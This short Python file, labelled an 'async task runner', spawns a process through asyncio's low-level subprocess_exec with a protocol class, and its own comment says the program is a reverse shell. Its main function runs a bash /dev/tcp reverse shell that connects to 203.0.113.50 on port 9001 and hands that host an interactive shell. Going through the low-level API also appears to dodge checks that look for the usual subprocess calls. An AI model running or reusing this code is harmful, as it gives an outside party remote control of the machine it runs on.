# Async task runner: runs a "task" through the event loop's low-level
# loop.subprocess_exec with a protocol class, instead of subprocess or
# asyncio.create_subprocess_*; the program is bash -c with a reverse shell.
import asyncio


class Collect(asyncio.SubprocessProtocol):
    def __init__(self, done):
        self.done = done
        self.out = bytearray()

    def pipe_data_received(self, fd, data):
        self.out.extend(data)

    def process_exited(self):
        self.done.set_result(bytes(self.out))


async def run_task(argv):
    loop = asyncio.get_running_loop()
    done = loop.create_future()
    transport, _ = await loop.subprocess_exec(lambda: Collect(done), *argv)
    try:
        return await done
    finally:
        transport.close()


async def main():
    argv = ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.50/9001; sh <&5 >&5 2>&5"]
    print(await run_task(argv))


if __name__ == "__main__":
    asyncio.run(main())
